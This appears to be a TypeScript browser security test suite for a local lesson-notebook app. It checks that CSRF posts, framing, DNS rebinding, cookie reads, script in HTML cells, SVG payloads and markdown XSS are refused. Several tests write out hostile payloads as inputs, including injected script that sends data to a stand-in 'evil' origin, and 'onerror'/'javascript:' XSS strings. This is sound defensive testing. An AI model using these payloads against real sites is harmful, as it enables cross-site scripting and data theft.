import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import { describeInBrowser } from "./browser.js";
import { cell, type PageServer, pageServer, typeInto, waitForEnd } from "./page-server.js";

describeInBrowser("attacks from a browser", (browser) => {
  let server: PageServer;
  let evil: Server;
  let evilOrigin: string;
  /** Everything that reached the other site. */
  const stolen: string[] = [];
  beforeAll(async () => {
    evil = createServer((request, response) => {
      stolen.push(request.url ?? "");
      response.setHeader("Content-Type", "text/html").end("<title>evil</title><p>evil page</p>");
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  });
  afterAll(() => evil.close());
  beforeEach(async () => {
    stolen.length = 0;
    server = await pageServer();
  });
  afterEach(() => server.remove());

  const address = (path: string) => new URL(path, server.url).href;

  it("another site's page can neither read nor change anything, although the reader is signed in", async () => {
    const context = await browser.context();
    await server.open(context, "/lessons/01-copies");
    const page = await context.newPage();
    await page.goto(evilOrigin);
    const interrupt = address("/api/lessons/01-copies/interrupt");
    const outcomes = await page.evaluate(
      async ({ course, interrupt }) => {
        const attempt = (url: string, init: RequestInit) =>
          fetch(url, init).then(
            (response) => `${response.type} ${response.status}`,
            () => "blocked",
          );
        return {
          read: await attempt(course, { credentials: "include" }),
          blindRead: await attempt(course, { credentials: "include", mode: "no-cors" }),
          post: await attempt(interrupt, { method: "POST", credentials: "include", mode: "no-cors", body: "{}" }),
        };
      },
      { course: address("/api/course"), interrupt },
    );
    expect(outcomes.read).toBe("blocked");
    expect(outcomes.blindRead).toMatch(/blocked|opaque 0/);
    expect(server.kernels.opened).toEqual([]);
    // A form that posts itself is a navigation, which no fetch policy stops: the server has to.
    await page.setContent(`<form method="post" action="${interrupt}"><button>go</button></form>`);
    const [response] = await Promise.all([page.waitForResponse(interrupt), page.getByRole("button").click()]);
    expect(response.status()).toBe(403);
    expect(server.kernels.opened).toEqual([]);
  });

  it("another site cannot put the page into a frame, nor load its parts", async () => {
    const context = await browser.context();
    await server.open(context, "/");
    const page = await context.newPage();
    await page.goto(evilOrigin);
    await page.setContent(`<iframe id="f" src="${address("/")}"></iframe>`);
    await page.waitForTimeout(500);
    expect(await page.frameLocator("#f").getByText("Learn Kafka replication").count()).toBe(0);
  });

  it("a name that resolves here is refused, also with the right token", async () => {
    const context = await browser.context();
    const page = await context.newPage();
    const rebound = server.url.replace("127.0.0.1", "rebound.localhost");
    const response = await page.goto(rebound);
    expect(response?.status()).toBe(403);
    expect(await context.cookies()).toEqual([]);
  });

  it("a wrong token opens nothing and says what to do", async () => {
    const page = await (await browser.context()).newPage();
    const response = await page.goto(server.url.replace(/token=.*/, `token=${"x".repeat(43)}`));
    expect(response?.status()).toBe(403);
    await page.getByText("The key in this address is not right.").waitFor();
  });

  it("the cookie cannot be read by the page's own scripts", async () => {
    const page = await server.open(await browser.context(), "/");
    expect(await page.evaluate(() => document.cookie)).not.toMatch(/highwater-\d/);
  });

  it("HTML from a cell reaches no cookie, no parent, no server, no other site", async () => {
    const context = await browser.context();
    const page = await server.open(context, "/lessons/01-copies");
    const script = `
      const report = {};
      const attempt = (name, act) => { try { report[name] = String(act()); } catch (error) { report[name] = "refused"; } };
      attempt("cookie", () => document.cookie);
      attempt("parent", () => parent.document.title);
      attempt("top", () => top.document.body.innerHTML);
      attempt("storage", () => localStorage.length);
      attempt("open", () => window.open("${evilOrigin}/opened"));
      const tell = (name) => (value) => { report[name] = value; };
      Promise.all([
        fetch("${address("/api/course")}", { credentials: "include" }).then((r) => r.text()).catch(() => "refused").then(tell("fetch")),
        fetch("${evilOrigin}/fetched").then(() => "reached").catch(() => "refused").then(tell("exfiltrate")),
      ]).then(() => { document.body.dataset.report = JSON.stringify(report); });
      const image = new Image(); image.src = "${evilOrigin}/pixel"; document.body.append(image);
      const form = document.createElement("form"); form.action = "${evilOrigin}/form"; document.body.append(form); try { form.submit(); } catch {}
      try { top.location = "${evilOrigin}/top"; } catch {}
    `.replaceAll(/\s+/g, " ");
    await run(page, `html <p>innocent</p><script>${script}</script>`);
    const frame = page.frameLocator(".output-html");
    await frame.getByText("innocent").waitFor();
    await expect.poll(() => frame.locator("body").getAttribute("data-report")).not.toBeNull();
    const report = JSON.parse((await frame.locator("body").getAttribute("data-report")) ?? "{}") as object;
    expect(report).toEqual({
      cookie: "refused",
      parent: "refused",
      top: "refused",
      storage: "refused",
      open: "null",
      fetch: "refused",
      exfiltrate: "refused",
    });
    expect(stolen).toEqual([]);
    expect(page.url()).toContain("/lessons/01-copies");
    // It cannot be opened outside of its frame, where it could lead the reader away.
    const src = await page.locator(".output-html").getAttribute("src");
    const alone = await context.newPage();
    expect((await alone.goto(address(src ?? "")))?.status()).toBe(404);
    expect(stolen).toEqual([]);
  });

  it("a frame cannot lie about its height without bound, nor speak for another", async () => {
    const page = await server.open(await browser.context(), "/lessons/01-copies");
    await run(page, `html <p>tall</p><script>parent.postMessage({ highwaterFrameHeight: 1e9 }, "*")</script>`);
    await page.waitForTimeout(400);
    await page.evaluate(() => window.postMessage({ highwaterFrameHeight: 3333 }, "*"));
    await page.waitForTimeout(200);
    const height = await page.locator(".output-html").evaluate((frame) => frame.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(4000);
    expect(height).not.toBe(3333);
  });

  it("pictures bring no script, no handler, no link out and no style for the page", async () => {
    const page = await server.open(await browser.context(), "/lessons/01-copies");
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40" onload="window.hacked = 1">',
      "<style>body { display: none !important } rect { fill: blue }</style>",
      "<script>window.hacked = 2</script>",
      `<image href="${evilOrigin}/image" width="9" height="9"/>`,
      `<a xlink:href="${evilOrigin}/link"><text>click</text></a>`,
      '<a href="javascript:window.hacked = 3"><text>click</text></a>',
      '<foreignObject><iframe src="javascript:parent.hacked = 4"></iframe></foreignObject>',
      '<rect width="9" height="9" onclick="window.hacked = 5"/>',
      `<use href="${evilOrigin}/use#x"/><rect id="mine" style="background: url(${evilOrigin}/style)" width="5" height="5"/>`,
      "</svg>",
    ].join("");
    await run(page, `svg ${svg}`);
    const inside = page.locator(".output-svg svg");
    await inside.waitFor();
    const html = await inside.evaluate((element) => element.outerHTML);
    expect(html).not.toMatch(/script|onload|onclick|javascript:|foreignObject|<image|iframe/i);
    expect(html).not.toContain(`href="${evilOrigin}`);
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(await page.locator("body").isVisible()).toBe(true);
    expect(stolen).toEqual([]);
  });

  it("text, names and markdown are shown as text", async () => {
    const page = await server.open(await browser.context(), "/lessons/01-copies");
    const payload = "<img src=x onerror=window.hacked=1>";
    await run(page, `print ${payload}`);
    await cell(page, "title").focus();
    await page.keyboard.press("Enter");
    await page.keyboard.press("ControlOrMeta+a");
    await page.keyboard.insertText(`# ${payload}\n\n[click](javascript:window.hacked=2) ${payload}`);
    await page.keyboard.press("Escape");
    await cell(page, "title").locator("h1").waitFor();
    expect(await page.locator("main img").count()).toBe(0);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  });

  it("the page itself runs no inline script and loads nothing from elsewhere", async () => {
    const page = await server.open(await browser.context(), "/");
    const outcome = await page.evaluate(async (origin) => {
      const inline = document.createElement("script");
      inline.textContent = "window.hacked = 1";
      document.head.append(inline);
      // Later, because the driver of this test is itself allowed to evaluate.
      const evaluated = await new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(new Function("return 1")());
          } catch {
            resolve("refused");
          }
        }, 50);
      });
      const fetched = await fetch(`${origin}/from-page`).then(
        () => "reached",
        () => "refused",
      );
      return { inline: "hacked" in window, evaluated, fetched };
    }, evilOrigin);
    expect(outcome).toEqual({ inline: false, evaluated: "refused", fetched: "refused" });
    expect(stolen).toEqual([]);
  });

  it("a huge body is refused before it is read, and nothing is changed", async () => {
    const page = await server.open(await browser.context(), "/lessons/01-copies");
    const status = await page.evaluate(async () => {
      const ops = [{ type: "insert", cell: { id: "huge", type: "code", source: "x".repeat(3_000_000) }, after: null }];
      const body = JSON.stringify({ client: "huge", epoch: "x", sequence: 1, ops });
      return (await fetch("/api/lessons/01-copies/ops", { method: "POST", body })).status;
    });
    expect(status).toBe(413);
    await page.reload();
    await expect.poll(() => page.locator(".cells > .cell").count()).toBe(3);
  });
});

async function run(page: Page, source: string): Promise<void> {
  await typeInto(page, "first", source);
  await page.keyboard.press("ControlOrMeta+Enter");
  await waitForEnd(page, "first");
}
